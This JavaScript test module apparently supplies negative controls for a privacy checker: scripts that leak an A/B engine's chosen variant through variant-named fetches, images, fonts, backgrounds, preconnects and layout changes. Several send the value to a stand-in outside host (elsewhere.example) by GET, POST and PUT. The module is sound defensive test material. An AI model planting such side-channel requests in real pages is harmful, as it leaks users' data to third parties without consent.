/**
 * Scripts that break the promise, each as a site or a careless change of ours could: what is sent
 * follows from what was chosen. All of them must be caught.
 */

/** Runs `body` once the engine is there; `chosen` is the variant of the hero. */
const leak = (body) => `addEventListener("load", async () => {
  for (let tries = 0; !globalThis.indgang && tries < 100; tries += 1) await new Promise((then) => setTimeout(then, 20));
  await globalThis.indgang.ready;
  const chosen = (await globalThis.indgang.decide()).slots.hero;
  ${body}
});`;

const add = (html) => `document.body.insertAdjacentHTML("beforeend", ${html});`;

/** @type {Record<string, string>} */
export const CONTROLS = {
  "a fetch by the variant's name": leak("await fetch(`/variants/${chosen}.html`).catch(() => {});"),
  "a fetch that is never twice the same": leak('if (chosen === "deals") await fetch(`/x?${Math.random()}`).catch(() => {});'),
  "only the chosen image": leak("new Image().src = `/assets/${chosen}.svg`;"),
  "a font in a variant": leak(
    add("`<style>@font-face{font-family:v;src:url(/fonts/${chosen}.woff2)}</style><p style=\"font-family:v\">x</p>`"),
  ),
  "a background in a variant": leak(add("`<div style=\"height:9px;background:url(/assets/${chosen}.svg)\">x</div>`")),
  "a preconnect": leak(add("`<link rel=\"preconnect\" href=\"https://${chosen}.example\">`")),
  "a path on another host": leak(
    "await fetch(`https://elsewhere.example/${chosen}`, { mode: \"no-cors\" }).catch(() => {});",
  ),
  "a body to another host": leak(
    'await fetch("http://elsewhere.example/", { method: "POST", mode: "no-cors", body: chosen }).catch(() => {});',
  ),
  // A host is first asked whether it may be sent this.
  "a body of JSON to another host": leak(
    'await fetch("https://elsewhere.example/", { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify(chosen) }).catch(() => {});',
  ),
  "a lazy image below a slot whose height changes": leak(
    // As scripts do it: what browsers do by themselves is seen to.
    add('`<p id="lazy">x</p>`') +
      `new IntersectionObserver((seen) => {
         if (seen.some((it) => it.isIntersecting)) document.getElementById("lazy").innerHTML = '<img src="/assets/lisbon.svg?lazy" width="9" height="9" alt="">';
       }).observe(document.getElementById("lazy"));` +
      `const main = document.querySelector("main");
       main.style.cssText = chosen === "deals" ? "display:block;height:20000px;overflow:hidden" : "display:none";`,
  ),
};
